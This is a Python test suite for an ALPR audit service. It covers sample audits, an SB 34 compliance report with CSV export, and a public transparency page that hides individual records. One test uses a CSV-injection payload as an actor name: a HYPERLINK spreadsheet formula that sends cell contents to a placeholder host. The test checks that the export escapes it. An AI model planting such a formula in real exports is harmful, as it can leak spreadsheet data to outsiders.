"""Sample audits (R21), the SB 34 report (R23) and the public transparency page (R32)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Annotated, Any

import httpx
from audit_support import Ledger, serving_owner
from fastapi import APIRouter, Depends

from alpr_audit.app import create_app
from alpr_audit.settings import Settings
from alpr_common import (
    HotlistStats,
    IngestStats,
    MisreadsBySource,
    Principal,
    Role,
    require_roles,
)
from alpr_devstack.testing import Infra, bearer, problem, serve


def _ago(days: int) -> str:
    return (datetime.now(UTC) - timedelta(days=days)).isoformat()


class TestSampleAudits:
    async def _seed(self, ledger: Ledger) -> set[int]:
        """15 browsing accesses of every kind (issue 16: searches and views) in the last six
        months, and others that must never be drawn."""
        event = ledger.event
        kinds = ["search.executed", "detection.viewed", "frame.viewed", "hold.viewed", "alert.viewed"]
        wanted = [
            event(action=kinds[i % len(kinds)], case_number=f"2026-{i:06d}", occurred_at=_ago(i * 10))
            for i in range(15)
        ]
        others = [
            event(occurred_at=_ago(200)),  # older than six months
            event(outcome="refused", purpose="personal_use"),  # refused, not browsing
            event(action="camera.created", purpose=None),  # a change, not browsing
            event(actor={"sub": "x", "name": "X", "agency": "CA0010900", "roles": ["investigator"]}),
        ]
        resp = await ledger.client.post(
            "/v1/events", json={"events": wanted + others}, headers=ledger.service
        )
        assert resp.status_code == 201
        return {r["sequence"] for r in resp.json()["items"][:15]}

    async def test_sample_draws_only_recent_browsing_without_repeats_R21(self, ledger: Ledger) -> None:
        """R21: at least 10 detection-browsing accesses from the preceding six months, drawn from
        every kind of browsing (issue 16), not from searches alone."""
        eligible = await self._seed(ledger)
        for _ in range(3):
            resp = await ledger.client.post("/v1/audits", json={"size": 10}, headers=ledger.auditor)
            assert resp.status_code == 201, resp.text
            body = resp.json()
            drawn = [item["sequence"] for item in body["items"]]
            assert len(drawn) == 10
            assert len(set(drawn)) == 10
            assert set(drawn) <= eligible
            assert body["available"] == 15
            assert body["status"] == "open"
        big = (await ledger.client.post("/v1/audits", json={"size": 50}, headers=ledger.auditor)).json()
        assert {i["sequence"] for i in big["items"]} == eligible

    async def test_fewer_than_ten_is_refused(self, ledger: Ledger) -> None:
        resp = await ledger.client.post("/v1/audits", json={"size": 9}, headers=ledger.auditor)
        assert resp.status_code == 422
        assert problem(resp)["type"] == "urn:alpr:problem:validation"

    async def test_findings_progress_and_completion(self, ledger: Ledger, infra: Infra) -> None:
        await self._seed(ledger)
        created = (await ledger.client.post("/v1/audits", json={"size": 10}, headers=ledger.auditor)).json()
        audit_id = created["id"]
        sequences = [i["sequence"] for i in created["items"]]
        for n, seq in enumerate(sequences):
            finding = "non_compliant" if n == 0 else "compliant"
            resp = await ledger.client.post(
                f"/v1/audits/{audit_id}/findings",
                headers=ledger.auditor,
                json={"sequence": seq, "finding": finding, "note": f"checked {n}"},
            )
            assert resp.status_code == 200, resp.text
        again = await ledger.client.post(
            f"/v1/audits/{audit_id}/findings",
            headers=ledger.auditor,
            json={"sequence": sequences[0], "finding": "compliant"},
        )
        assert again.status_code == 409
        not_sampled = await ledger.client.post(
            f"/v1/audits/{audit_id}/findings",
            headers=ledger.auditor,
            json={"sequence": 999, "finding": "compliant"},
        )
        assert not_sampled.status_code == 404
        done = (await ledger.client.get(f"/v1/audits/{audit_id}", headers=ledger.auditor)).json()
        assert done["status"] == "complete"
        assert done["progress"] == {"total": 10, "recorded": 10, "compliant": 9, "non_compliant": 1}
        assert done["items"][0]["recorded_by"]["sub"] == "aud-1"
        assert done["retained_beyond_six_months"] is None  # search does not answer in this test

        # Another agency's auditor: the audit does not exist for them (R27).
        other = bearer(infra.mint(sub="aud-9", agency="CA0010900", roles=["auditor"]))
        hidden = await ledger.client.get(f"/v1/audits/{audit_id}", headers=other)
        missing = await ledger.client.get("/v1/audits/00000000-0000-0000-0000-000000000000", headers=other)
        assert hidden.status_code == missing.status_code == 404
        assert hidden.json()["detail"] == missing.json()["detail"]
        listed = (await ledger.client.get("/v1/audits", headers=ledger.auditor)).json()
        assert [a["id"] for a in listed["items"]] == [audit_id]


async def _recorded_for_the_last_30_days(
    ledger: Ledger, infra: Infra, events: list[dict[str, Any]]
) -> tuple[dict[str, str], dict[str, str]]:
    """The events on the ledger; an admin's headers and the report's period (the last 30 days)."""
    assert (
        await ledger.client.post("/v1/events", json={"events": events}, headers=ledger.service)
    ).status_code == 201
    today = datetime.now(UTC).date()
    params = {"from": (today - timedelta(days=30)).isoformat(), "to": today.isoformat()}
    return bearer(infra.mint(roles=["alpr_admin"])), params


class TestSb34Report:
    async def test_counts_by_purpose_refusals_hits_releases_R23(self, ledger: Ledger, infra: Infra) -> None:
        event = ledger.event
        events = [
            event(purpose="stolen_vehicle"),
            event(purpose="stolen_vehicle"),
            event(
                purpose="amber_alert",
                actor={
                    "sub": "inv-8",
                    "name": "Bea Badge",
                    "agency": "CA0019400",
                    "roles": [],
                    "badge": "4711",
                },
            ),
            event(outcome="refused", purpose="immigration_enforcement", outcome_reason="purpose-prohibited"),
            event(action="alert.transitioned", purpose=None, data={"from": "live_query", "to": "confirmed"}),
            event(action="alert.transitioned", purpose=None, data={"from": "alert", "to": "misread"}),
            event(action="alert.transitioned", purpose=None, data={"from": "alert", "to": "tentative_hit"}),
            # R14: dispositions, recorded by the move into a final state.
            *(
                event(action="alert.transitioned", purpose=None, data={"from": a, "to": b, "disposition": d})
                for a, b, d in [
                    ("live_query", "confirmed", "arrest"),
                    ("live_query", "confirmed", "arrest"),
                    ("live_query", "confirmed", "vehicle_recovered"),
                    ("tentative_hit", "not_active", "no_action"),
                    ("alert", "misread", "misread"),
                    ("alert", "tentative_hit", None),
                ]
            ),
            event(action="sharing.released", purpose="serial_crime_support", data={"agency": "CA0010900"}),
            event(action="retention.purged", purpose=None, data={"detections": 120}),
            event(purpose="stolen_vehicle", occurred_at=_ago(400)),  # outside the period
        ]
        admin, params = await _recorded_for_the_last_30_days(ledger, infra, events)
        resp = await ledger.client.get("/v1/reports/sb34", params=params, headers=admin)
        assert resp.status_code == 200, resp.text
        report = resp.json()
        assert report["from"] == params["from"]
        assert report["searches_by_purpose"] == {"stolen_vehicle": 2, "amber_alert": 1}
        # Issue 16: who searched, by name and badge (a count per person, never the searches).
        assert report["searches_by_person"] == [
            {"sub": "inv-7", "name": "Ivan Investigator", "badge": None, "searches": 2},
            {"sub": "inv-8", "name": "Bea Badge", "badge": "4711", "searches": 1},
        ]
        assert report["refused_attempts"] == {"purpose-prohibited": 1}
        assert report["hits_by_final_state"] == {"confirmed": 4, "misread": 2, "not_active": 1}
        # R14: a misread from before dispositions counts as one; a confirmation without, unspecified.
        assert report["hits_by_disposition"] == {
            "arrest": 2,
            "vehicle_recovered": 1,
            "no_action": 1,
            "misread": 2,
            "unspecified": 1,
        }
        assert report["releases"] == [{"agency": "CA0010900", "purpose": "serial_crime_support", "count": 1}]
        assert report["purges"] == 1

        csv_resp = await ledger.client.get(
            "/v1/reports/sb34", params=params, headers={**admin, "Accept": "text/csv"}
        )
        assert csv_resp.headers["content-type"].startswith("text/csv")
        assert "searches_by_purpose,stolen_vehicle,,2" in csv_resp.text
        assert "releases,CA0010900,serial_crime_support,1" in csv_resp.text
        assert "searches_by_person,Bea Badge (4711),,1" in csv_resp.text
        assert "hits_by_disposition,arrest,,2" in csv_resp.text

    async def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(
        self, ledger: Ledger, infra: Infra
    ) -> None:
        """Names come from the agency's identity provider; one written as a spreadsheet formula
        is exported as text (OWASP CSV injection), and the JSON keeps it as it is."""
        formula = '=HYPERLINK("http://x.invalid/?q="&A1,"report")'
        actor: dict[str, object] = {
            "sub": "inv-9",
            "name": formula,
            "agency": "CA0019400",
            "roles": [],
            "badge": None,
        }
        events = [ledger.event(purpose="stolen_vehicle", actor=actor)]
        admin, params = await _recorded_for_the_last_30_days(ledger, infra, events)
        as_json = await ledger.client.get("/v1/reports/sb34", params=params, headers=admin)
        assert [p["name"] for p in as_json.json()["searches_by_person"]] == [formula]
        as_csv = await ledger.client.get(
            "/v1/reports/sb34", params=params, headers={**admin, "Accept": "text/csv"}
        )
        rows = list(csv.reader(io.StringIO(as_csv.text)))
        assert ["searches_by_person", "'" + formula, "", "1"] in rows
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    async def test_roles_and_bad_range(self, audit: httpx.AsyncClient, infra: Infra) -> None:
        params = {"from": "2026-02-01", "to": "2026-01-01"}
        investigator = bearer(infra.mint(roles=["investigator"]))
        assert (await audit.get("/v1/reports/sb34", params=params, headers=investigator)).status_code == 403
        auditor = bearer(infra.mint(roles=["auditor"]))
        bad = await audit.get("/v1/reports/sb34", params=params, headers=auditor)
        assert bad.status_code == 422
        assert (await audit.get("/v1/reports/sb34", params={"from": "x"}, headers=auditor)).status_code == 422


class TestTransparency:
    async def test_public_page_has_policy_and_counts_but_no_record_R32(self, ledger: Ledger) -> None:
        """R32: published policy and aggregate statistics, without exposing any record."""
        events = [
            ledger.event(),
            ledger.event(),
            ledger.event(action="alert.created", purpose=None, data={"plate": "5SECRET1"}),
        ]
        await ledger.client.post("/v1/events", json={"events": events}, headers=ledger.service)
        resp = await ledger.client.get("/public/v1/transparency")  # no token
        assert resp.status_code == 200, resp.text
        body = resp.json()
        assert body["agency"] == "CA0019400"
        assert "SB 34" in body["policy_text"]
        assert body["counts"] == {
            "cameras": None,
            "detections_in_retention": None,
            "hits": 1,
            "searches": 2,
            "sharing_partners": None,
        }
        for record_detail in ("7ABC123", "5SECRET1", "inv-7"):
            assert record_detail not in resp.text
        other = (await ledger.client.get("/public/v1/transparency", params={"agency": "CA0010900"})).json()
        assert other["counts"]["searches"] == 0
        assert (
            await ledger.client.get("/public/v1/transparency", params={"agency": "bad agency"})
        ).status_code == 422


owner_router = APIRouter()
owner_calls: list[str] = []


@owner_router.get("/v1/stats")
async def owner_stats(
    agency: str, principal: Annotated[Principal, Depends(require_roles(Role.SERVICE))]
) -> IngestStats:
    owner_calls.append(principal.sub)
    cameras = 12 if agency == "CA0019400" else 0
    return IngestStats(agency=agency, cameras=cameras, frames_pending=0, frames_failed=0, reads=0)


async def test_transparency_takes_owner_counts_from_their_stats(
    infra: Infra, audit_settings: Settings
) -> None:
    """Counts not in the ledger come from the owners' GET /v1/stats, asked with a service token."""
    async with serving_owner(infra, owner_router, "svc-audit-test") as owner:
        async with serve(create_app(owner.settings_for(audit_settings, "ingest_url"))) as audit:
            body = (await audit.get("/public/v1/transparency")).json()
    assert body["counts"]["cameras"] == 12
    assert body["counts"]["detections_in_retention"] is None  # search does not answer here
    assert owner_calls == ["svc-audit-test"]


accuracy_router = APIRouter()
CAMERA = "3f1c2a52-9d7e-4c43-9f4e-0d6f4d1f2b10"


@accuracy_router.get("/v1/stats")
async def accuracy_stats(
    agency: str, principal: Annotated[Principal, Depends(require_roles(Role.SERVICE))]
) -> HotlistStats:
    rows = [MisreadsBySource(camera_id=CAMERA, model_version="alpr-0123456789ab", checked=4, misreads=1)]
    return HotlistStats(
        agency=agency,
        hotlists=0,
        active_entries=0,
        pending_entries=0,
        hits=4,
        hits_by_state={},
        misread_rate=0.25,
        misreads_by_source=rows if agency == "CA0019400" else [],
    )


async def test_sb34_report_carries_misreads_per_camera_and_model_R22(
    infra: Infra, audit_settings: Settings
) -> None:
    """The report's accuracy inputs come from hotlist's and search's stats; an owner that does
    not answer shows as null, and the report is still made."""
    async with serving_owner(infra, accuracy_router, "svc-audit-acc", settings_of="hotlist") as owner:
        async with serve(create_app(owner.settings_for(audit_settings, "hotlist_url"))) as audit:
            admin = bearer(infra.mint(roles=["alpr_admin"]))
            today = datetime.now(UTC).date()
            params = {"from": (today - timedelta(days=30)).isoformat(), "to": today.isoformat()}
            report = (await audit.get("/v1/reports/sb34", params=params, headers=admin)).json()
            text = (
                await audit.get("/v1/reports/sb34", params=params, headers={**admin, "Accept": "text/csv"})
            ).text
    assert report["accuracy"]["misreads_by_source"] == [
        {"camera_id": CAMERA, "model_version": "alpr-0123456789ab", "checked": 4, "misreads": 1}
    ]
    assert report["accuracy"]["corrections_by_source"] is None  # search does not answer here
    assert f"misreads,{CAMERA}/alpr-0123456789ab,,1" in text
    assert f"misreads_checked,{CAMERA}/alpr-0123456789ab,,4" in text
